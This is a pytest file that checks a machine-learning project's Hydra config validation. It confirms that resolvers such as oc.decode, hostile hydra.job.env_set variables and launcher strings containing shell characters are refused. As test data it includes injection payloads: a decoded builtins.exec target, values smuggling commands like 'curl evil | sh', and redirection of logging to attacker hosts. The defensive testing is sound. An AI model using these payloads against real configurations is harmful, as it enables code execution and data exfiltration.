"""Doors of the config system besides ``_target_`` (mu_lightning/runtime/settings.py): resolvers that build nodes or
read the environment, ``hydra.job.env_set`` and launcher strings that reach a shell. Each payload of issue 24 is
refused with one line, from the command line, a preset and Hydra's own settings, before anything resolves."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from hydra import compose, initialize_config_module
from omegaconf import OmegaConf

from mu_lightning.errors import ConfigError
from mu_lightning.runtime import settings
from mu_lightning.runtime.command_line import check_command_line
from mu_lightning.runtime.targets import check_targets

ROOT = Path(__file__).resolve().parents[1]
SMALL = ["dataset=synthetic", "dataset.source.num_samples=300", "train.epochs=1", "logger=none", "metric=fast"]
DECODE = "${oc.decode:'{_target_: builtins.exec, source: x}'}"


def composed(*overrides: str):
    with initialize_config_module("mu_lightning.conf", version_base="1.3"):
        return compose("config", overrides=list(overrides), return_hydra_config=True)


def expect_refused(argv: list[str], *fragments: str) -> str:
    with pytest.raises(ConfigError) as info:
        check_command_line(argv)
    for fragment in fragments:
        assert fragment in str(info.value), str(info.value)
    return str(info.value)


# --- resolvers ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("resolver", ["oc.decode", "oc.create", "oc.env", "oc.deprecated", "python_eval"])
def test_resolvers_outside_the_allowlist_are_refused_anywhere(resolver):
    raw = f"${{{resolver}:'x'}}"
    for where in ("model.hidden", "+hydra.callbacks.x", "+hydra.job.env_set.OMP_NUM_THREADS", "tags"):
        expect_refused([f'{where}="{raw}"'], f"the resolver {resolver} is not one a config may use")
    with pytest.raises(ConfigError, match=f"resolver {resolver}"):
        check_targets(OmegaConf.create({"a": {"b": [f"x{raw}"]}}))
    nested = OmegaConf.create({"a": f"${{oc.select:b,{raw}}}"})
    with pytest.raises(ConfigError, match=f"resolver {resolver}"):
        check_targets(nested)


def test_a_decoded_target_never_reaches_instantiate():
    """The payload of issue 24: oc.decode turned text into a ``_target_`` the checker never saw."""
    with pytest.raises(ConfigError, match="the resolver oc.decode"):
        check_targets(OmegaConf.create({"model": {"x": DECODE}}))
    expect_refused([f'+model.x="{DECODE}"'], "model.x=", "oc.decode")
    expect_refused([f'+hydra.callbacks.x="{DECODE}"'], "hydra.callbacks.x=", "oc.decode")


def test_a_preset_cannot_use_a_resolver_that_builds_nodes(tmp_path):
    presets = tmp_path / "presets" / "experiment"
    presets.mkdir(parents=True)
    (presets / "fancy.yaml").write_text(f"# @package _global_\nmodel:\n  extra: \"{DECODE}\"\n")
    expect_refused(["--config-dir", str(tmp_path / "presets"), "experiment=fancy"], "model.extra=", "oc.decode")
    (presets / "env.yaml").write_text("# @package _global_\ntags: ['${oc.env:WANDB_API_KEY,none}']\n")
    expect_refused(["--config-dir", str(tmp_path / "presets"), "experiment=env"], "tags[0]=", "oc.env")


def test_a_node_made_at_resolve_time_is_checked_like_any_other(monkeypatch):
    OmegaConf.register_new_resolver("mu_test_make", lambda: {"_target_": "builtins.exec"}, replace=True)
    monkeypatch.setitem(settings.RESOLVERS, "mu_test_make", "a test resolver that returns a plain dict")
    with pytest.raises(ConfigError, match=r"model.x._target_='builtins.exec' is not allowed"):
        check_targets(OmegaConf.create({"model": {"x": "${mu_test_make:}"}}))
    monkeypatch.setitem(settings.RESOLVERS, "mu_test_make", "a test resolver that returns a list")
    OmegaConf.register_new_resolver("mu_test_make", lambda: [{"_target_": "builtins.exec"}], replace=True)
    with pytest.raises(ConfigError, match=r"model.x\[0\]._target_='builtins.exec'"):
        check_targets(OmegaConf.create({"model": {"x": "${mu_test_make:}"}}))


def test_the_allowed_resolvers_still_work():
    assert check_command_line(["experiment=cifar10_resnet18_class"]) is None  # None: not refused
    assert check_targets(composed("unlearner=boundary_shrink")) is None
    assert check_targets(OmegaConf.create({"a": 1, "b": "${a}", "c": "${oc.select:a,2}", "d": "x_${now:%Y}"})) is None


@pytest.mark.slow
def test_a_decoded_hydra_callback_does_not_run_at_start_up(tmp_path):
    marker = tmp_path / "marker"
    payload = f"'${{oc.decode:\"{{_target_: builtins.open, file: {marker}, mode: w}}\"}}'"
    out = subprocess.run([sys.executable, "train.py", *SMALL, f"+hydra.callbacks.x={payload}",
                          f"hydra.run.dir={tmp_path / 'run'}", f"paths.cache_dir={tmp_path / 'cache'}"],
                         capture_output=True, text=True, timeout=300, cwd=ROOT)
    text = out.stdout + out.stderr
    assert out.returncode == 2 and not marker.exists(), text[-3000:]
    assert "the resolver oc.decode is not one a config may use" in text and "Traceback" not in text
    assert not (tmp_path / "run").exists()


# --- hydra.job.env_set ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name,value", [
    ("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1"), ("TORCH_FORCE_WEIGHTS_ONLY_LOAD", "0"),
    ("WANDB_BASE_URL", "https://attacker.example"), ("WANDB_API_KEY", "x"), ("WANDB_ENTITY", "them"),
    ("LD_PRELOAD", "/tmp/x.so"), ("PYTHONPATH", "/tmp"), ("MU_LIGHTNING_ALLOW", "os.*"), ("HTTPS_PROXY", "h:1"),
])
def test_env_set_allows_only_the_variables_the_project_needs(name, value):
    expect_refused([f"+hydra.job.env_set.{name}={value}"], f"hydra.job.env_set.{name} is not allowed",
            "a config may set only")


def test_env_set_values_are_checked_and_wandb_online_is_for_the_shell_only(tmp_path):
    expect_refused(["+hydra.job.env_set.WANDB_MODE=online"], "hydra.job.env_set.WANDB_MODE='online' is not allowed")
    expect_refused(["+hydra.job.env_set.OMP_NUM_THREADS='4; touch x'"], "OMP_NUM_THREADS=")
    presets = tmp_path / "presets" / "logger"
    presets.mkdir(parents=True)
    (presets / "team.yaml").write_text("# @package _global_\nhydra:\n  job:\n    env_set:\n"
                                       "      WANDB_BASE_URL: https://wandb.evil.example\n      WANDB_MODE: online\n")
    expect_refused(["--config-dir", str(tmp_path / "presets"), "logger=team"], "hydra.job.env_set.WANDB_BASE_URL")
    check_command_line(["+hydra.job.env_set.CUDA_VISIBLE_DEVICES=0,1", "+hydra.job.env_set.WANDB_MODE=offline",
                        "+hydra.job.env_set.OMP_NUM_THREADS=2"])


# --- launcher strings -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["gpu\\ntouch /tmp/x", "gpu;touch x", "gpu$(touch x)", "gpu`id`", "a|b", "a>b"])
def test_launcher_strings_with_shell_characters_are_refused(value):
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    expect_refused(["hydra/launcher=slurm", f"hydra.launcher.partition='{value}'"], "hydra.launcher.partition=",
            "launcher options are written into a shell script")
    expect_refused(["hydra/launcher=slurm", f"+hydra.launcher.additional_parameters={{mail_user: '{value}'}}"],
            "hydra.launcher.additional_parameters.mail_user=")


def test_a_newline_in_a_preset_launcher_option_is_refused(tmp_path):
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    presets = tmp_path / "presets" / "hydra" / "launcher"
    presets.mkdir(parents=True)
    (presets / "cluster.yaml").write_text("defaults:\n  - slurm\npartition: \"gpu\\ncurl evil | sh\"\n")
    expect_refused(["--config-dir", str(tmp_path / "presets"), "hydra/launcher=cluster"], "hydra.launcher.partition=",
            "'\\n'")
    check_command_line(["hydra/launcher=slurm", "hydra.launcher.partition=gpu-a100", "hydra.launcher.account=lab_1"])
